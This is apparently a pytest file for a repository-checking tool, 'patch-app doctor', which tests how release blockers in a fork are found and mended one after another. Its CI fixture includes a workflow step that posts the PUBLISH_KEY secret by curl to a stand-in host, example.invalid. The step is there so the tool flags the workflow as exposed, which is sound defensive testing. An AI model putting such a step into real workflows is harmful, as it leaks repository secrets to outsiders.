"""Obstacles that `patch-app doctor` finds, mended one after the other while an attempt waits."""

from __future__ import annotations

import io
import json
from typing import Any

import pytest

from patch_app.core import names
from patch_app.core.attempt import Stage
from patch_app.examine import examine
from patch_app.forge.rules import rule
from patch_app.operator import UsageError
from patch_app.terminal import Terminal
from tests.stories.world import FORK, UPSTREAM, World

CI = """\
name: ci
on:
  push: {tags: ["**"]}
  pull_request: {branches: [main]}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "$KEY" https://example.invalid
        env: {KEY: "${{ secrets.PUBLISH_KEY }}"}
"""


def doctor(world: World, repository: str = FORK, **options: Any) -> tuple[int, dict[str, str]]:
    """Exit status, and the findings with their sentences and remedies."""
    said = io.StringIO()
    console = Terminal(file=said, width=400)
    settings = world.server._settings
    status = world.server.call(
        lambda: examine(settings, console, repository=repository, as_json=True, **options)
    )
    found = json.loads(said.getvalue())
    assert found["blocks"] is bool(status)
    return status, {one["code"]: f"{one['sentence']}: {one['remedy']}" for one in found["findings"]}


def shown(world: World) -> str:
    said = io.StringIO()
    console, settings = Terminal(file=said, width=400), world.server._settings
    world.server.call(lambda: examine(settings, console, repository=FORK))
    return said.getvalue()


@pytest.mark.forge(lists_workflows_when_off=False)
def test_a_fork_with_several_obstacles_is_mended_one_after_the_other(world: World) -> None:
    forge = world.forge
    assert doctor(world) == (0, {})
    world.alice.api("PUT", f"/repos/{FORK}/actions/permissions", {"enabled": False})
    forge.commit(
        FORK,
        "main",
        {
            ".github/workflows/ci.yml": CI,
            ".gitmodules": "[submodule]\n",
            ".gitattributes": "*.bin filter=lfs diff=lfs\n",
        },
        "Check and publish",
        by="alice",
    )
    assert "actions-off" in doctor(world)[1]
    world.alice.api("PUT", f"/repos/{FORK}/actions/permissions", {"enabled": True})
    granted = dict(forge.core.state.apps[world.app.id].permissions)
    forge.core.state.installations[world.installation].permissions.pop("statuses")
    forge.set_rules(FORK, "patch-app/**", ["creation"])
    forge.set_rules(
        FORK,
        "main",
        [
            "non_fast_forward",
            rule({"type": "required_status_checks", "parameters": {"required_status_checks": ["build"]}}),
        ],
        bypass=[world.app.slug],
    )
    world.alice.api("PATCH", f"/repos/{FORK}", {"has_issues": False})
    forge.set_workflow_state(FORK, "patch-maintenance.yml", "disabled_inactivity")
    status, found = doctor(world)
    assert status == 1
    assert set(found) == {
        *("permission-missing", "workflow-disabled", "branches-refused"),
        *("check-never-starts", "workflow-exposed", "rule-bypassed", "issues-off", "lfs", "submodules"),
    }
    assert "`statuses: read`" in found["permission-missing"]
    assert "60 days" in found["workflow-disabled"]
    assert "PUBLISH_KEY" in found["workflow-exposed"]
    assert "exclude patch-app/** from that ruleset" in found["branches-refused"]

    # the release comes all the same: the attempt waits, one thing after the other is mended
    forge.accept_permissions(world.installation, by="alice")
    assert forge.core.state.installations[world.installation].permissions == granted
    attempt = world.release()
    assert attempt.stage is Stage.BLOCKED
    assert "60 days" in attempt.message
    notice = names.notice_name("main")
    checks = [one for one in forge.repository(FORK).checks.values() if one.name == notice]
    assert [(one.head_sha, one.conclusion) for one in checks] == [(world.main(), "action_required")]
    world.later()
    world.alice.api("PUT", f"/repos/{FORK}/actions/workflows/patch-maintenance.yml/enable")
    world.alice.api("PATCH", f"/repos/{FORK}", {"has_issues": True})
    world.later()
    attempt = world.attempt()
    assert (attempt.stage, attempt.issue) == (Stage.BLOCKED, None)
    assert "the rule creation for patch-app/**" in attempt.message
    issues = [one for one in forge.repository(FORK).issues.values() if one.pull is None]
    assert [one.title for one in issues] == ["v1.1.0 waits: something has to be mended first"]
    forge.set_rules(FORK, "patch-app/**", [])
    world.later()
    assert world.attempt().stage is Stage.REVIEWING
    assert world.issue(issues[0].number)["state"] == "closed"
    assert "no longer in the way" in world.comments(issues[0].number)[-1]
    assert {one.conclusion for one in forge.repository(FORK).checks.values() if one.name == notice} == {
        "neutral"
    }
    assert doctor(world)[0] == 0
    said = shown(world)
    assert "nothing is in the way of an attempt" in said
    assert f"the newest release of {UPSTREAM} that is taken: v1.1.0" in said
    world.ends()


def test_what_doctor_says_where_little_can_be_read(world: World) -> None:
    forge = world.forge
    with pytest.raises(UsageError, match="not installed"):
        doctor(world, UPSTREAM)
    with pytest.raises(UsageError, match="owner/name"):
        doctor(world, "../x")
    with pytest.raises(UsageError, match="--checkout"):
        doctor(world, apply=True)
    world.set_ref("refs/heads/patch-app", world.main())
    world.set_ref("refs/tags/v1.0.0", world.main())
    world.alice.api("PUT", f"/repos/{FORK}/actions/permissions", {"enabled": False})
    forge.commit(FORK, "main", {names.CONFIGURATION_PATH: "[upstream]\ntag = 'v*'\n"}, "Oops", by="alice")
    status, found = doctor(world)
    assert (status, set(found)) == (1, {"configuration-error", "name-collision", "tag-differs"})
    assert "line 2" in found["configuration-error"]
    assert "allowed here: repository, repository_id, tags" in found["configuration-error"]
    for row in forge.core.state.repositories.values():
        row.private = row.full_name == UPSTREAM
    status, found = doctor(world)
    assert {"upstream-private"} <= set(found) or {"upstream-unreachable"} <= set(found)
    forge.suspend(world.installation, by="alice")
    assert set(doctor(world)[1]) == {"suspended"}
